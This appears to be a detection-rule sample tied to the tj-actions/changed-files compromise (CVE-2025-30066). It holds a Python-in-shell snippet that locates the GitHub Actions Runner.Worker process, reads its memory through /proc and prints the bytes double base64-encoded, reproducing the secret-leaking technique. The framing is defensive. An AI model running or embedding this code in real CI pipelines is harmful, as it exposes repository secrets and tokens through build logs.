# incident: tj-actions/changed-files, March 2025 (CVE-2025-30066)
# what: a changed action looks for the runner's worker, reads its memory and prints what it finds, encoded twice
# rule: runner-memory-read
## step: Get changed files
## uses: tj-actions/changed-files@v45
python3 - <<'X' | base64 -w0 | base64 -w0
import os, re, sys
for pid in filter(str.isdigit, os.listdir('/proc')):
    try:
        if b'Runner.Worker' not in open(f'/proc/{pid}/cmdline', 'rb').read():
            continue
        with open(f'/proc/{pid}/maps') as maps, open(f'/proc/{pid}/mem', 'rb', 0) as mem:
            for line in maps:
                m = re.match(r'([0-9a-f]+)-([0-9a-f]+) rw', line)
                if m:
                    mem.seek(int(m.group(1), 16))
                    sys.stdout.buffer.write(mem.read(64))
                    break
    except OSError:
        pass
X
